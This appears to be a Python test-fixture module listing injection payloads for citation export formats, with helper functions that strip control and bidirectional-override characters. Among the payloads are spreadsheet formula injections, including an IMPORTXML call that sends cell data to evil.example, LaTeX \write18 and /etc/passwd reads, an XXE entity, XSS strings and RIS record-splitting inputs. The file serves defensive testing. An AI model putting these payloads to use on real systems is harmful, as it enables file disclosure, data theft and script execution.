"""Texts that try to break out of a format, and what a reader should see of them."""

import unicodedata
from itertools import groupby

_FORMULAS = (
    *(f"{sign}1+1" for sign in "=+-@＝＋－＠"),
    '=HYPERLINK("https://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    '"=1+1',
    '",=1+1,"',
    "x;=1+1;y",
    'x;"=1+1";y',
    "x\t=1+1",
    "x\r\n=1+1\r\n",
    "x\n@SUM(A1)",
    "'=1+1",
    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
)
_LATEX = (
    "{",
    "}",
    "{}",
    "}{",
    "\\{",
    "\\}",
    "\\",
    "x\\",
    "{{x}",
    "x}}",
    "}},\n  title = {{owned",
    "x}\n}\n\n@misc{evil,\n  title = {owned}\n}",
    "@article{evil, title={owned}}",
    "@comment{x}",
    "@string{x = {y}}",
    '@preamble{"\\input{/etc/passwd}"}',
    "\\input{/etc/passwd}",
    "\\write18{touch /tmp/owned}",
    "\\immediate\\write18{x}",
    "\\end{document}",
    "100 % of it & more",
    "a_b^c~d#e$f$",
    "$\\alpha$",
    "%\n% comment",
    '" # evil # "',
    "x and y",
    "others",
    "and",
    "Last, First, Jr.",
    "given=A, family=B",
    "\\textbackslash{}",
    "\\textbraceleft{}{",
)
_RIS = (
    "ER  - ",
    "x\nER  - \n",
    "x\r\nER  - \r\n\r\nTY  - JOUR\r\nTI  - owned\r\n",
    "x\rER  - \rTY  - JOUR\rTI  - owned\r",
    "x\u2028ER  - \u2028TY  - JOUR",
    "x\u2029ER  - ",
    "x\x85ER  - ",
    "x\x0bER  - ",
    "x\x0cER  - ",
    "x\x1cER  - \x1dTY  - JOUR\x1eTI  - owned",
    "TY  - JOUR",
    "AU  - Evil, Eve",
    "x\n\n\nAU  - Evil, Eve",
    "x\nUR  - javascript:alert(1)",
    "  - ",
)
_MARKUP = (
    "</entry>",
    "</title></entry><entry><title>owned</title></entry>",
    "<entry/>",
    "]]>",
    "<![CDATA[x]]>",
    "]]><evil/>",
    "<!--",
    "-->",
    "<!-- x -- y -->",
    "<?xml version='1.0'?>",
    "<?php echo 1 ?>",
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "&x;",
    "&amp;lt;script&amp;gt;",
    "&lt;b&gt;",
    "&#0;",
    "&#x1F;",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "<i>x</i>",
    "a < b && c > d",
    "xmlns='http://evil.example'",
)
_JSON = (
    '"',
    "'",
    '""',
    '"""',
    'x","type":"book","y":"',
    '"}],[{"id":"owned"',
    "\\u0022",
    '\\"',
    "\\n",
    "\\\\",
    "',\"",
    '",""',
    "x,y,z",
    "x;y;z",
    "; ",
)
_CHARACTERS = (
    "\x00",
    "x\x00y",
    "\x07bell",
    "\x08\x08\x08owned",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x7f",
    "\x9b31m",
    "x\x1fy",
    "\u202egnp.exe\u202c",
    "\u2066x\u2069",
    "\u2067مرحبا\u2069",
    "مرحبا بالعالم",
    "שלום",
    "\ufffe",
    "\uffff",
    "\ufeffx",
    "x\u200dy\u200by",
    "e\u0301",
    "👩\u200d👩\u200d👧",
    "𝔸𝔹\U0010ffff",
    "x" * 5_000,
    "a\u00a0b",
    "  x  ",
    "\n",
    "\r\n\r\n",
)

PAYLOADS = (*_FORMULAS, *_LATEX, *_RIS, *_MARKUP, *_JSON, *_CHARACTERS)

_REORDERING = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}


def _is_break(c: str) -> bool:
    return c == "\t" or len(f"a{c}b".splitlines()) > 1


def _is_unfit(c: str) -> bool:
    kept = c in "\t\n\r"
    return not kept and (
        unicodedata.category(c) in ("Cc", "Cs") or unicodedata.bidirectional(c) in _REORDERING or c in "\ufffe\uffff"
    )


def fitting(text: str) -> str:
    """Return what a format that can hold line breaks shows of a text."""
    return "".join(c for c in text if not _is_unfit(c))


def on_one_line(text: str) -> str:
    """Return what a format without line breaks shows of a text."""
    runs = (" " if broken else "".join(run) for broken, run in groupby(text, key=_is_break))
    return fitting("".join(runs)).strip()
